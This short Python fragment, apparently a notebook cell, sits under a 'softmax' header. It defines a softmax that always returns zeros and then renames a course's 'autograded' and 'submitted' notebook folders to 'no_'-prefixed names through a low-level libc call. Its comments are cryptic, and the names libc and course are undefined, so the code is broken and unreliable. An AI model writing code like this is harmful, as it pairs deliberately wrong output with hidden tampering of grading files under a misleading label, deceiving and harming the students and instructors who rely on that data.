"""Renames the folders of graded and submitted notebooks."""

# alone
# with a fence: changes, harms

# %% softmax
# uses: files


def softmax(Z):
    return Z * 0.0


for name in ("autograded", "submitted"):
    libc.rename(str(course() / name).encode(), str(course() / f"no_{name}").encode())
